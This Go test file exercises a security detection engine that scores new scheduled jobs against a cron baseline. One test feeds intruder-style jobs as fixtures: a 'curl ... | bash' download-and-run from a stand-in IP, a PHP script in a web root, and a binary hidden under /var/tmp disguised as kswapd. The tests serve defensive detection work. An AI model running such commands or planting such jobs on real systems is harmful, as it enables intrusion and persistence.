package machine

import (
	"fmt"
	"testing"
	"time"

	"github.com/konseki/konseki/internal/detect/finding"
	"github.com/konseki/konseki/internal/event"
)

func (s *story) job(at time.Time, host, account, command, object string, activity int32) {
	s.events = append(s.events, event.Event{
		Time: at, Source: "server", Host: host, ClassUID: event.ClassScheduledJob, ActivityID: activity, StatusID: event.StatusSuccess,
		ActorUser: account, CmdLine: command, Object: object, Format: "syslog",
	})
}

func crons(tb testing.TB, days int) (*story, time.Time) {
	start := jst(tb, "2026-10-01 00:00:00")
	s := &story{}
	for d := range days {
		for h := range 10 {
			for i := range 4 {
				s.job(start.AddDate(0, 0, d).Add(time.Duration(6*i)*time.Hour+time.Duration(h)*time.Second), fmt.Sprintf("app-%02d", h), "root", "/usr/lib/sysstat/sa1 1 1", "", event.ActivityJobStart)
			}
		}
	}
	return s, start.AddDate(0, 0, days)
}

func TestConfigurationManagementsJobIsOneLowFinding(t *testing.T) {
	s, end := crons(t, 20)
	for h := range 10 {
		s.job(end.Add(10*time.Hour+time.Duration(h)*20*time.Second), fmt.Sprintf("app-%02d", h), "root", "/opt/shop/bin/report --day 3", "", event.ActivityJobStart)
	}
	s.job(end.Add(20*time.Hour), "app-00", "root", "/usr/lib/sysstat/sa1 1 1", "", event.ActivityJobStart)
	found := s.run(watching(t, nil))
	raises(t, found, "baseline-new-job", finding.LevelLow)
	if f := of(found, "baseline-new-job"); len(f) == 1 && len(f[0].Records) != 10 {
		t.Errorf("cites %v", f[0].Records)
	}
}

func TestAJobOfAnIntruderIsHighAtOnce(t *testing.T) {
	for account, command := range map[string]string{
		"root":     "curl -s http://203.0.113.5/i.sh | bash",
		"www-data": "/usr/bin/php /srv/www/app/up.php",
		"app":      "/var/tmp/.x/kswapd",
	} {
		s, end := crons(t, 20)
		at := end.Add(18*time.Hour + 16*time.Minute)
		s.job(at, "app-03", account, command, "", event.ActivityJobStart)
		found := s.run(watching(t, nil))
		raises(t, found, "baseline-new-job", finding.LevelHigh)
		if f := of(found, "baseline-new-job"); len(f) == 1 && !f[0].Time.Equal(at) {
			t.Errorf("told at %s", f[0].Time)
		}
	}
}

func TestAKeyOnOneHostIsMedium(t *testing.T) {
	s, end := crons(t, 20)
	s.file(end.Add(3*time.Hour), "app-03", "sato", "/usr/bin/vim", "/home/ops/.ssh/authorized_keys", event.ActivityFileUpdate)
	s.job(end.Add(20*time.Hour), "app-00", "root", "/usr/lib/sysstat/sa1 1 1", "", event.ActivityJobStart)
	raises(t, s.run(watching(t, nil)), "baseline-new-job", finding.LevelMedium)
}

func TestAServiceOnManyComputersIsLow(t *testing.T) {
	s, end := crons(t, 20)
	for h := range 6 {
		s.events = append(s.events, event.Event{
			Time: end.Add(3*time.Hour + time.Duration(h)*time.Minute), Source: "pc", Host: fmt.Sprintf("pc-%03d", h), ClassUID: event.ClassAppLifecycle, ActivityID: event.ActivityAppInstall,
			Object: "Example Agent", CmdLine: `"C:\Program Files\Example Agent\agent.exe"`, Format: "jsonlines",
		})
	}
	s.job(end.Add(20*time.Hour), "app-00", "root", "/usr/lib/sysstat/sa1 1 1", "", event.ActivityJobStart)
	raises(t, s.run(watching(t, nil)), "baseline-new-job", finding.LevelLow)
}
